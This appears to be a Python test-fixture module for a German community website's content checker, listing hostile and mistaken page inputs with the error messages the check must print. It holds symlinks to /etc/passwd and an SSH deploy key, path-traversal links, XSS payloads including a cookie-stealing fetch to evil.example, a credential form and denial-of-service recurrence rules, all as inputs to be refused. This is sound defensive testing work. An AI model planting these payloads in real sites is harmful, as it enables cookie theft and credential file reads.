"""Hostile and mistaken content for the adversarial suite: a small valid site, and one fixture per case.

Each :class:`Case` changes or adds a few files of :data:`BASE` and names every message
``make check`` must print for it (file, line, field, words of the message). Line ``None``
marks a problem of the whole file (a link, a file in the wrong place).
"""

from __future__ import annotations

import os
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

FIXTURES = Path(__file__).parent / "fixtures" / "broken" / "kalender"


@dataclass(frozen=True)
class Link:
    """A symbolic link to ``target`` (absolute, or relative to the link's folder)."""

    target: str


@dataclass(frozen=True)
class Fifo:
    """A named pipe: reading it would block for ever."""


@dataclass(frozen=True)
class Case:
    name: str
    files: dict  # path under content/ -> text, bytes, Link, Fifo, or None (deleted)
    expect: list  # (path under content/, line or None, field, words)
    issue: str  # the point of issue 15 it covers
    notes: str = ""
    also: tuple = field(default=())  # further files the messages may name


def _text(value: str) -> str:
    return textwrap.dedent(value).lstrip("\n")


BASE = {
    "pages/start.de.md": """
        Title: Willkommen
        Slug: start
        Lang: de
        Role: home

        Willkommen im Zentrum.
        """,
    "pages/kontakt.de.md": """
        Title: Kontakt
        Slug: kontakt
        Lang: de
        Summary: So erreichen Sie uns.

        Schreiben Sie uns: {org:email}.
        """,
    "pages/kontakt.en.md": """
        Title: Contact
        Slug: kontakt
        Lang: en
        Summary: How to reach us.

        Write to us: {org:email}.
        """,
    "pages/ueber-uns.de.md": """
        Title: Über uns
        Slug: ueber-uns
        Lang: de

        Wir sind ein Verein. [Kontakt]({filename}/pages/kontakt.de.md)

        ![Ein Beet im Garten]({static}/images/garten.jpg)
        """,
    "news/2026-09-01-kurs.de.md": """
        Title: Kurs beginnt
        Slug: kurs
        Lang: de
        Date: 2026-09-01 10:00
        Summary: Der Kurs beginnt.

        Mehr im [Kursplan]({view}kurse).
        """,
    "news/2026-09-01-kurs.en.md": """
        Title: Course starts
        Slug: kurs
        Lang: en
        Date: 2026-09-01 10:00
        Summary: The course starts.

        More in the [course plan]({view}kurse).
        """,
    "kalender/kochabend.de.md": """
        Title: Kochabend
        Slug: kochabend
        Lang: de
        Summary: Wir kochen zusammen.
        Art: veranstaltung
        Beginn: 2026-10-15 17:00
        Ende: 20:00
        Ort: zentrum
        Kategorie: begegnung

        Kochen verbindet. Anmeldung: {org:email}
        """,
    "kalender/kochabend.en.md": """
        Title: Cooking evening
        Slug: kochabend
        Lang: en
        Summary: We cook together.

        Cooking connects.
        """,
    "partner/verein.de.md": """
        Title: Sportverein
        Slug: verein
        Lang: de
        Kategorie: vereine
        Summary: Ein Verein aus Plauen.

        Wir spielen zusammen Fußball.
        """,
    "images/garten.jpg": b"\xff\xd8\xff\xe0" + bytes(200) + b"\xff\xd9",
    "extra/favicon.ico": b"\x00\x00\x01\x00",
}


def write_files(content: Path, files: dict) -> None:
    for rel, value in files.items():
        path = content / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.is_symlink() or path.exists():
            path.unlink()
        if value is None:
            continue  # the case deletes this file
        if isinstance(value, Link):
            path.symlink_to(value.target)
        elif isinstance(value, Fifo):
            os.mkfifo(path)
        elif isinstance(value, bytes):
            path.write_bytes(value)
        else:
            path.write_text(_text(value), encoding="utf-8")


def write_base(content: Path) -> None:
    write_files(content, BASE)
    for name in ("orte.toml", "kategorien.toml"):
        (content / "kalender" / name).write_text((FIXTURES / name).read_text(encoding="utf-8"), encoding="utf-8")


def page(body: str, *, slug="neu", lang="de", title="Neu", extra="") -> str:
    """A page file around ``body`` (line 5 is the first body line; ``extra`` header lines come after Lang)."""
    head = f"Title: {title}\nSlug: {slug}\nLang: {lang}\n" + (extra + "\n" if extra else "")
    return head + "\n" + _text(body)


def news(body: str, *, date="2026-09-02 10:00", extra="") -> str:
    """A news file (``news/2026-09-02-neu.de.md``): Date is line 4, the body starts at line 6 (+ extra lines)."""
    return f"Title: Neu\nSlug: neu\nLang: de\nDate: {date}\n" + (extra + "\n" if extra else "") + "\n" + _text(body)


BIG_IMAGE = b"\xff\xd8\xff\xe0" + bytes(260 * 1024)
NEWS = "news/2026-09-02-neu.de.md"
KOCH = "kalender/kochabend.de.md"
KOCH_EN = "kalender/kochabend.en.md"


def kochabend(**changes) -> str:
    """The base calendar entry with some lines replaced (``{"Summary": "…"}``) or the body replaced."""
    text = _text(BASE[KOCH])
    body = changes.pop("body", None)
    for key, value in changes.items():
        lines = text.splitlines()
        for index, line in enumerate(lines):
            if line.startswith(f"{key}:"):
                lines[index] = f"{key}: {value}" if value is not None else None
        text = "\n".join(line for line in lines if line is not None) + "\n"
    if body is not None:
        text = text.split("\n\n", 1)[0] + "\n\n" + _text(body)
    return text


def rule(text: str, *, key="Wiederholung") -> str:
    """A new course entry with a recurrence ``text`` (the rule is on line 8)."""
    return (f"Title: Kurs\nSlug: kurs-neu\nLang: de\nSummary: Ein Kurs.\nArt: kurs\nBeginn: 2026-09-07 17:30\n"
            f"Ende: 19:00\n{key}: {text}\nOrt: zentrum\n\nText.\n")


CASES = [
    # --- 1. Symlinks and paths outside content/ ---------------------------------------------
    Case("symlink-image-to-system-file", {"images/logo.png": Link("/etc/hostname")},
         [("images/logo.png", None, "Datei", "symbolischer Link (auf „/etc/hostname“)")], "1"),
    Case("symlink-to-deploy-key", {"images/deploy_key.png": Link("/root/.ssh/deploy_key")},
         [("images/deploy_key.png", None, "Datei", "symbolischer Link")], "1", "the link target need not exist"),
    Case("symlink-folder", {"images/system": Link("/etc")},
         [("images/system", None, "Datei", "symbolischer Link (auf „/etc“)")], "1"),
    Case("symlink-page-to-passwd", {"pages/geheim.de.md": Link("/etc/passwd")},
         [("pages/geheim.de.md", None, "Datei", "symbolischer Link")], "1"),
    Case("symlink-inside-content", {"images/kopie.jpg": Link("garten.jpg")},
         [("images/kopie.jpg", None, "Datei", "symbolischer Link (auf „garten.jpg“)")], "1",
         "even a link inside content/ is refused: its target could change"),
    Case("named-pipe", {"pages/pipe.de.md": Fifo()},
         [("pages/pipe.de.md", None, "Datei", "keine normale Datei")], "1", "reading it would hang the build"),
    Case("named-pipe-among-calendar-entries", {"kalender/pipe.de.md": Fifo()},
         [("kalender/pipe.de.md", None, "Datei", "keine normale Datei")], "1",
         "refused before any check reads a file, so the calendar and partner checks never open it"),
    Case("named-pipe-among-partners", {"partner/pipe.de.md": Fifo()},
         [("partner/pipe.de.md", None, "Datei", "keine normale Datei")], "1"),
    Case("symlinked-calendar-entry", {"kalender/fremd.de.md": Link("/etc/hostname")},
         [("kalender/fremd.de.md", None, "Datei", "symbolischer Link")], "1"),
    Case("static-dotdot-to-etc", {"pages/neu.de.md": page("![Schlüssel]({static}/../../../../etc/hostname)\n")},
         [("pages/neu.de.md", 5, "Link", "außerhalb von content/")], "1", "Pelican would copy it, even outside output/"),
    Case("static-dotdot-next-to-content", {"pages/neu.de.md": page("[Einstellungen]({static}/../pelicanconf.py)\n")},
         [("pages/neu.de.md", 5, "Link", "außerhalb von content/")], "1"),
    Case("filename-dotdot", {"pages/neu.de.md": page("[x]({filename}../../../etc/passwd)\n")},
         [("pages/neu.de.md", 5, "Link", "außerhalb von content/")], "1"),
    Case("attach-dotdot", {"pages/neu.de.md": page("[Datei]({attach}/../geheim.txt)\n")},
         [("pages/neu.de.md", 5, "Link", "außerhalb von content/")], "1"),
    Case("calendar-image-outside", {KOCH: kochabend(Kategorie="begegnung\nBild: ../../etc/hostname\nBildbeschreibung: x")},
         [(KOCH, 10, "Bild", "außerhalb von content/")], "1"),
    Case("rst-with-include", {"pages/geheim.rst": "Geheim\n======\n\n.. include:: /etc/hostname\n"},
         [("pages/geheim.rst", None, "Datei", "keine Markdown-Datei (.rst)")], "1",
         "the rst reader would include the file; the build no longer reads rst at all"),
    Case("html-source-file", {"news/seite.html": "<html><title>x</title><script>alert(1)</script></html>"},
         [("news/seite.html", None, "Datei", "keine Markdown-Datei (.html)")], "1"),

    # --- 2. Output paths --------------------------------------------------------------------
    Case("save-as-home-page", {"pages/neu.de.md": page("Text.\n", extra="Save_as: index.html")},
         [("pages/neu.de.md", 4, "Save_as", "könnte so eine andere Seite ersetzen")], "2"),
    Case("save-as-contact-page", {"pages/neu.de.md": page("Text.\n", extra="Save_as: kontakt/index.html")},
         [("pages/neu.de.md", 4, "Save_as", "wohin die Seite geschrieben wird")], "2"),
    Case("url-field", {NEWS: news("Text.\n", extra="Url: /")}, [(NEWS, 5, "Url", "andere Seite ersetzen")], "2"),
    Case("page-slug-kalender", {"pages/kalender.de.md": page("Text.\n", slug="kalender")},
         [("pages/kalender.de.md", 2, "Slug", "dort steht schon die Ansicht „kalender“")], "4"),
    Case("page-slug-partner", {"pages/partner.de.md": page("Text.\n", slug="partner")},
         [("pages/partner.de.md", 2, "Slug", "dort steht schon die Ansicht „partner“")], "4"),
    Case("page-slug-en", {"pages/en.de.md": page("Text.\n", slug="en")},
         [("pages/en.de.md", 2, "Slug", "dort steht schon die Startseite (en)")], "4"),
    Case("page-slug-aktuelles", {"pages/aktuelles.de.md": page("Text.\n", slug="aktuelles")},
         [("pages/aktuelles.de.md", 2, "Slug", "die Ansicht „news“")], "2"),
    Case("page-slug-theme", {"pages/theme.de.md": page("Text.\n", slug="theme")},
         [("pages/theme.de.md", 2, "Slug", "schon eine Adresse der Website (die Dateien des Aussehens)")], "2"),
    Case("page-slug-images", {"pages/images.de.md": page("Text.\n", slug="images")},
         [("pages/images.de.md", 2, "Slug", "schon eine Adresse der Website (Bilder und Dateien)")], "2"),
    Case("translated-page-slug-kalender", {"pages/kalender.en.md": page("Text.\n", slug="kalender", lang="en"),
                                           "pages/kalender.de.md": page("Text.\n", slug="kalender")},
         [("pages/kalender.en.md", 2, "Slug", "en/kalender/index.html")], "2"),
    Case("field-overwriting-the-body", {"pages/neu.de.md": page("Text.\n", extra="_content: <script>alert(1)</script>")},
         [("pages/neu.de.md", 4, "_content", "kennt die Website nicht")], "2"),

    # --- 3. Raw HTML ------------------------------------------------------------------------
    Case("youtube-iframe", {"pages/neu.de.md": page(
        'Unser Video:\n\n<iframe src="https://www.youtube.com/embed/xyz"></iframe>\n')},
         [("pages/neu.de.md", 7, "Text", "<iframe> bettet eine fremde Website ein")], "3"),
    Case("script", {"pages/neu.de.md": page("Hallo\n\n<script>fetch('https://evil.example/?'+document.cookie)</script>\n")},
         [("pages/neu.de.md", 7, "Text", "<script> ist Programmcode")], "3"),
    Case("onclick", {"pages/neu.de.md": page('<p onclick="alert(1)">Klick</p>\n')},
         [("pages/neu.de.md", 5, "Text", "„onclick“ an <p> führt Programmcode aus")], "3"),
    Case("onclick-via-markdown-attribute-list", {"pages/neu.de.md": page('## Titel {: onclick="alert(1)" }\n')},
         [("pages/neu.de.md", 5, "Text", "„onclick“ an <h2>")], "3", "Markdown itself writes the attribute"),
    Case("onmouseover-in-span", {"pages/neu.de.md": page("Text <span onmouseover=alert(1)>hier</span>\n")},
         [("pages/neu.de.md", 5, "Text", "„onmouseover“ an <span>")], "3"),
    Case("style-attribute", {"pages/neu.de.md": page('<p style="color: red">Rot</p>\n')},
         [("pages/neu.de.md", 5, "Text", "eigene Gestaltung mit „style“")], "3"),
    Case("javascript-link", {"pages/neu.de.md": page("[Gewinnspiel](javascript:alert(document.cookie))\n")},
         [("pages/neu.de.md", 5, "Text", "„javascript:“-Link")], "3"),
    Case("javascript-link-hidden-by-entities", {"pages/neu.de.md": page('<a href="jav&#x09;ascript:alert(1)">x</a>\n')},
         [("pages/neu.de.md", 5, "Text", "„javascript:“-Link")], "3", "the browser reads it as javascript:"),
    Case("vbscript-link", {"pages/neu.de.md": page("[x](vbscript:msgbox)\n")},
         [("pages/neu.de.md", 5, "Text", "„vbscript:“-Link")], "3"),
    Case("third-party-image", {"pages/neu.de.md": page("![Logo](https://evil.example/pixel.png)\n")},
         [("pages/neu.de.md", 5, "Text", "liegt auf einer fremden Website")], "3"),
    Case("protocol-relative-image", {"pages/neu.de.md": page('<img src="//evil.example/p.png" alt="x">\n')},
         [("pages/neu.de.md", 5, "Text", "liegt auf einer fremden Website")], "3"),
    Case("google-fonts", {"pages/neu.de.md": page(
        '<link href="https://fonts.googleapis.com/css?family=Roboto" rel="stylesheet">\n\nText.\n')},
         [("pages/neu.de.md", 5, "Text", "<link> lädt Dateien nach")], "3"),
    Case("style-element-import", {"pages/neu.de.md": page(
        "<style>@import url(https://fonts.googleapis.com/css?family=Roboto);</style>\n\nText.\n")},
         [("pages/neu.de.md", 5, "Text", "<style> ändert die Gestaltung")], "3"),
    Case("inline-svg-with-script", {"pages/neu.de.md": page('<svg><script>alert(1)</script></svg>\n\nText.\n')},
         [("pages/neu.de.md", 5, "Text", "eingebettete SVG-Grafik")], "3"),
    Case("object-embed", {"pages/neu.de.md": page('<object data="https://evil.example/x.swf"></object>\n')},
         [("pages/neu.de.md", 5, "Text", "<object> bettet fremde Inhalte ein")], "3"),
    Case("form", {"pages/neu.de.md": page(
        '<form action="https://evil.example/"><input name="iban"></form>\n')},
         [("pages/neu.de.md", 5, "Text", "Formulare sind nicht erlaubt")], "3"),
    Case("meta-refresh", {"pages/neu.de.md": page('<meta http-equiv="refresh" content="0;url=https://evil.example">\n\nT\n')},
         [("pages/neu.de.md", 5, "Text", "<meta> gehört nicht in den Text")], "3"),
    Case("base-href", {"pages/neu.de.md": page('<base href="https://evil.example/">\n\nText.\n')},
         [("pages/neu.de.md", 5, "Text", "<base> verbiegt alle Links")], "3"),
    Case("data-uri-image", {"pages/neu.de.md": page('<img src="data:image/png;base64,iVBORw0KGgo=" alt="x">\n')},
         [("pages/neu.de.md", 5, "Text", "„data:“ als Bildquelle")], "3"),
    Case("video", {"pages/neu.de.md": page('<video src="https://evil.example/v.mp4"></video>\n')},
         [("pages/neu.de.md", 5, "Text", "<video> ist nicht erlaubt")], "3"),
    Case("unencrypted-link", {"pages/neu.de.md": page("[Verein](http://example.org/)\n")},
         [("pages/neu.de.md", 5, "Text", "unverschlüsselter http-Link")], "3"),
    Case("link-to-the-local-preview", {"pages/neu.de.md": page("[Kontakt](http://127.0.0.1:8000/kontakt/)\n")},
         [("pages/neu.de.md", 5, "Text", "zeigt auf die Vorschau auf diesem Computer")], "3"),
    Case("link-with-password", {"pages/neu.de.md": page("[Intern](https://verein:geheim@example.org/)\n")},
         [("pages/neu.de.md", 5, "Text", "Benutzername oder Passwort")], "3"),
    Case("iframe-in-news-summary", {NEWS: news("Text.\n", extra='Summary: Neu! <iframe src="https://evil.example"></iframe>')},
         [(NEWS, 5, "Summary", "<iframe>")], "3", "the summary goes into listings and the Atom feed"),
    Case("script-in-calendar-summary", {KOCH: kochabend(Summary="Wir kochen. <script>alert(1)</script>")},
         [(KOCH, 4, "Summary", "<script> ist Programmcode")], "3"),
    Case("onerror-in-partner-body", {"partner/verein.de.md": _text(BASE["partner/verein.de.md"]) +
                                     '\n<img src="{static}/images/garten.jpg" alt="x" onerror="alert(1)">\n'},
         [("partner/verein.de.md", 9, "Text", "„onerror“ an <img>")], "3"),
    Case("table-alignment", {"pages/neu.de.md": page("| a | b |\n|:--|--:|\n| 1 | 2 |\n")},
         [("pages/neu.de.md", 6, "Text", "Ausrichtung in Tabellen")], "3", "Markdown writes style=, the CSP blocks it"),
    Case("heading-level-one", {"pages/neu.de.md": page("# Noch ein Titel\n\nText.\n")},
         [("pages/neu.de.md", 5, "Text", "Überschrift erster Ebene")], "5"),
    Case("image-without-alt-text", {"pages/neu.de.md": page("![]({static}/images/garten.jpg)\n")},
         [("pages/neu.de.md", 5, "Text", "die Bildbeschreibung fehlt")], "4", "Pelican warns, the build stops"),
    Case("link-without-text", {"pages/neu.de.md": page("Hier: []({filename}/pages/kontakt.de.md)\n")},
         [("pages/neu.de.md", 5, "Text", "der Link hat keinen Text")], "5"),
    Case("html-in-calendar-translation-body", {KOCH_EN: _text(BASE[KOCH_EN]) + '\n<iframe src="https://maps.example"></iframe>\n'},
         [(KOCH_EN, 8, "Text", "<iframe>")], "3"),

    # --- 4. Crashes that passed the check -----------------------------------------------------
    Case("org-field-in-calendar-body", {KOCH: kochabend(body="Anmeldung: {org:mail}\n")},
         [(KOCH, 11, "Platzhalter", "{org:mail}: dieses Feld gibt es in ORGANIZATION nicht")], "4"),
    Case("view-link-in-calendar-body", {KOCH: kochabend(body="Siehe [Kurse]({view}kurs).\n")},
         [(KOCH, 11, "Link", "{view}kurs: diese Ansicht gibt es nicht")], "4"),
    Case("view-link-in-partner-body", {"partner/verein.de.md": _text(BASE["partner/verein.de.md"]) + "\n[Kalender]({view}termine)\n"},
         [("partner/verein.de.md", 9, "Link", "{view}termine: diese Ansicht gibt es nicht")], "4"),
    Case("org-field-in-partner-body", {"partner/verein.de.md": _text(BASE["partner/verein.de.md"]) + "\nTelefon: {org:telefon}\n"},
         [("partner/verein.de.md", 9, "Platzhalter", "{org:telefon}")], "4"),
    Case("missing-static-image", {"pages/neu.de.md": page("![Ein Foto]({static}/images/fehlt.jpg)\n")},
         [("pages/neu.de.md", 5, "Link", "{static}/images/fehlt.jpg: diese Datei gibt es nicht")], "4"),
    Case("static-file-outside-image-folders", {"pages/neu.de.md": page("[Text]({static}/pages/kontakt.de.md)\n")},
         [("pages/neu.de.md", 5, "Link", "liegt nicht in einem Ordner für Bilder und Dateien")], "5"),
    Case("filename-link-to-an-image", {"pages/neu.de.md": page("[Foto]({filename}/images/garten.jpg)\n")},
         [("pages/neu.de.md", 5, "Link", "{static}/images/garten.jpg statt {filename}")], "4"),
    Case("calendar-original-without-title", {KOCH: kochabend(Title=None)},
         [(KOCH, 1, "Title", "der Titel fehlt")], "4"),
    Case("german-page-drafted-translation-published", {"pages/kontakt.de.md": _text(BASE["pages/kontakt.de.md"]).replace(
        "Lang: de\n", "Lang: de\nStatus: draft\n")},
         [("pages/kontakt.de.md", 4, "Status", "das Original ist „draft“, die Übersetzung kontakt.en.md aber „published“"),
          ("pages/ueber-uns.de.md", 5, "Link", "ist ein Entwurf")], "4", also=("pages/ueber-uns.de.md",)),
    Case("title-written-twice", {"pages/neu.de.md": "Title: Neu\nSlug: neu\nTitle: Doch anders\nLang: de\n\nText.\n"},
         [("pages/neu.de.md", 3, "Title", "das Feld steht 2-mal da (Zeilen 1, 3)")], "4"),
    Case("slug-written-twice-in-news", {NEWS: news("Text.\n", extra="Slug: neu-2")},
         [(NEWS, 5, "Slug", "das Feld steht 2-mal da")], "4"),
    Case("tag-link-without-tag-pages", {"pages/neu.de.md": page("[Alles zum Garten]({tag}garten)\n")},
         [("pages/neu.de.md", 5, "Link", "{tag}-Links gibt es auf dieser Website nicht")], "4"),
    Case("link-to-a-draft-page", {"pages/entwurf.de.md": page("Noch nicht fertig.\n", slug="entwurf", extra="Status: draft"),
                                  "pages/neu.de.md": page("[Bald]({filename}/pages/entwurf.de.md)\n")},
         [("pages/neu.de.md", 5, "Link", "ist ein Entwurf (Status: draft)")], "5"),

    # --- 5. Mistakes that went live silently ----------------------------------------------------
    Case("empty-title-in-calendar-translation", {KOCH_EN: _text(BASE[KOCH_EN]).replace("Title: Cooking evening", "Title:")},
         [(KOCH_EN, 1, "Title", "der Titel ist leer")], "5"),
    Case("empty-title-in-page-translation", {"pages/kontakt.en.md": _text(BASE["pages/kontakt.en.md"]).replace(
        "Title: Contact", "Title:")}, [("pages/kontakt.en.md", 1, "Title", "der Titel fehlt")], "5"),
    Case("german-modified-date", {NEWS: news("Text.\n", extra="Modified: 05.11.2026")},
         [(NEWS, 5, "Modified", "„05.11.2026“ würde als 11.05.2026 gelesen")], "5", "fix: 2026-11-05"),
    Case("german-news-date", {NEWS: news("Text.\n", date="02.09.2026")},
         [(NEWS, 4, "Date", "„02.09.2026“ würde als 09.02.2026 gelesen")], "5"),
    Case("news-date-a-typo-far-ahead", {"news/2062-09-02-neu.de.md": news("Text.\n", date="2062-09-02 10:00")},
         [("news/2062-09-02-neu.de.md", 4, "Date", "mehr als ein Jahr in der Zukunft")], "5"),
    Case("news-year-typo-in-the-past", {"news/0202-09-02-neu.de.md": news("Text.\n", date="0202-09-02 10:00")},
         [("news/0202-09-02-neu.de.md", 4, "Date", "das Jahr 202 ist sicher ein Tippfehler")], "5"),
    Case("modified-before-date", {NEWS: news("Text.\n", extra="Modified: 2026-08-01")},
         [(NEWS, 5, "Modified", "liegt vor dem Datum")], "5"),
    Case("translation-with-another-date", {"news/2026-09-03-kurs.en.md": _text(BASE["news/2026-09-01-kurs.en.md"]).replace(
        "2026-09-01", "2026-09-03"), "news/2026-09-01-kurs.en.md": None},
         [("news/2026-09-03-kurs.en.md", 4, "Date", "weicht vom Datum des Originals ab (01.09.2026)")], "5",
         "held back on different days the German item would be a draft while its translation is published"),
    Case("page-without-german-original", {"pages/only.en.md": page("Text.\n", slug="only", lang="en")},
         [("pages/only.en.md", 2, "Slug", "keine Fassung in „de“")], "5"),
    Case("markdown-file-with-other-suffix", {"pages/neu.de.markdown": page("<script>alert(1)</script>\n")},
         [("pages/neu.de.markdown", None, "Datei", "endet auf „.markdown“")], "5", "it would skip every page check"),
    Case("markdown-file-outside-the-folders", {"notiz.de.md": page("Text.\n")},
         [("notiz.de.md", None, "Datei", "liegt in keinem Inhaltsordner")], "5"),
    Case("markdown-file-in-the-image-folder", {"images/info.de.md": page("Text.\n")},
         [("images/info.de.md", None, "Datei", "sondern roh kopiert")], "5"),
    Case("dead-internal-link", {"pages/neu.de.md": page("[Kontakt](/kontak/)\n")},
         [("pages/neu.de.md", 5, "Link", "die Adresse „/kontak/“ gibt es auf der Website nicht")], "5"),
    Case("relative-link", {"pages/neu.de.md": page("[Kontakt](kontakt/)\n")},
         [("pages/neu.de.md", 5, "Text", "relativer Link")], "5"),
    Case("huge-image", {"images/riesig.jpg": BIG_IMAGE, "pages/neu.de.md": page("![Ein großes Foto]({static}/images/riesig.jpg)\n")},
         [("pages/neu.de.md", 5, "Link", "ist 260 KB groß")], "5", "cheap phones, prepaid data"),
    Case("german-link-in-english-page", {"pages/kontakt.en.md": _text(BASE["pages/kontakt.en.md"]) +
                                         "\n[About us]({filename}/pages/kontakt.de.md)\n"},
         [("pages/kontakt.en.md", 8, "Link", "ist die Fassung in „de“, diese Datei ist aber „en“")], "5"),
    Case("link-to-the-home-intro", {"pages/neu.de.md": page("[Start]({filename}/pages/start.de.md)\n")},
         [("pages/neu.de.md", 5, "Link", "ist der Text der Startseite")], "5"),
    Case("page-without-text", {"pages/neu.de.md": "Title: Neu\nSlug: neu\nLang: de\n"},
         [("pages/neu.de.md", 4, "Text", "unter den Feldern steht kein Text")], "5"),
    Case("unknown-role", {"pages/neu.de.md": page("Text.\n", extra="Role: startseite")},
         [("pages/neu.de.md", 4, "Role", "„startseite“ gibt es nicht")], "5"),
    Case("calendar-image-outside-the-image-folders",
         {"pages/foto.jpg": b"\xff\xd8\xff", KOCH: kochabend(Kategorie="begegnung\nBild: pages/foto.jpg\nBildbeschreibung: Ein Foto")},
         [(KOCH, 10, "Bild", "liegt nicht in einem Ordner für Bilder und Dateien"),
          ("pages/foto.jpg", None, "Datei", "keine Markdown-Datei")], "5"),
    Case("org-placeholder-in-a-calendar-field", {KOCH: kochabend(Kategorie="begegnung\nAnmeldung: per Mail an {org:email}")},
         [(KOCH, 10, "Anmeldung", "„{org:email}“ wird in diesem Feld nicht ersetzt")], "5",
         "only the text replaces {org:…}; the field would show the braces"),
    Case("org-placeholder-in-a-summary", {"pages/neu.de.md": page("Text.\n", extra="Summary: Mail an {org:email}")},
         [("pages/neu.de.md", 4, "Summary", "„{org:email}“ wird in diesem Feld nicht ersetzt")], "5"),
    Case("status-in-german", {"pages/neu.de.md": page("Text.\n", extra="Status: entwurf")},
         [("pages/neu.de.md", 4, "Status", "„entwurf“ gibt es nicht")], "5"),

    # --- 6. Denial of service -----------------------------------------------------------------
    Case("rrule-that-never-occurs", {"kalender/kurs-neu.de.md": rule("FREQ=DAILY;BYMONTH=2;BYMONTHDAY=30;COUNT=3", key="RRULE")},
         [("kalender/kurs-neu.de.md", 8, "RRULE", "ergibt in den ersten 5 Jahren keinen einzigen Termin")], "6",
         "took 47 s before"),
    Case("1500-yearly-sessions", {"kalender/kurs-neu.de.md": rule("jährlich, 1500 mal")},
         [("kalender/kurs-neu.de.md", 8, "Wiederholung", "von den 1500 Terminen liegen nur 6 in den ersten 5 Jahren")],
         "6", "wrote 9,308 pages before"),
    Case("series-for-fifteen-years", {"kalender/kurs-neu.de.md": rule("wöchentlich Mo bis 2041-09-02")},
         [("kalender/kurs-neu.de.md", 8, "Wiederholung", "mehr als 5 Jahre nach dem Beginn")], "6"),
    Case("daily-for-five-years", {"kalender/kurs-neu.de.md": rule("täglich, 1600 mal")},
         [("kalender/kurs-neu.de.md", 8, "Wiederholung", "ergibt mehr als 1500 Termine")], "6"),
]


# --- Mutations: random damage to valid files, for "no input crashes a check" ----------------
JUNK = (":", "::", "\x00", "\ufeff", "Title:", "Date: 99999-99-99", "Slug: ../..", "{filename}", "{static}", "{org:",
        "{view}", "<", "<a href=", "](", "![", "\t", "    ", "Ä:Ö", "Lang:", "Status:", "Save_as:", "_content:", "Date:",
        "Modified: x", "[^1]", "*[", "<!--", "```", "| a |\n|:-", "Role:", "Nav: 1e999", "Template: ../x", "Summary:",
        "\r", "\u202e", "<script>", "Logo: ../../x.svg", "Website: javascript:x", "Kategorie:")


def mutate(text: str, rng) -> str:
    """``text`` with one to four random edits: lines deleted, repeated, cut, junk inserted."""
    lines = text.splitlines(keepends=True)
    for _ in range(rng.randint(1, 4)):
        op, i = rng.randrange(6), rng.randrange(len(lines) + 1)
        j = min(i, len(lines) - 1)
        if op == 0 and lines:
            del lines[j]
        elif op == 1 and lines:
            lines.insert(i, lines[rng.randrange(len(lines))])
        elif op == 2:
            lines.insert(i, rng.choice(JUNK) + rng.choice(("", " x", " 2026-13-45", " <b>", "\n")) + "\n")
        elif op == 3 and lines:
            cut = rng.randrange(len(lines[j]) + 1)
            lines[j] = lines[j][:cut] + rng.choice(JUNK) + lines[j][cut:]
        elif op == 4 and lines:
            lines[j] = lines[j][: rng.randrange(len(lines[j]) + 1)]
        elif op == 5:
            lines = lines[:i]
    return "".join(lines)
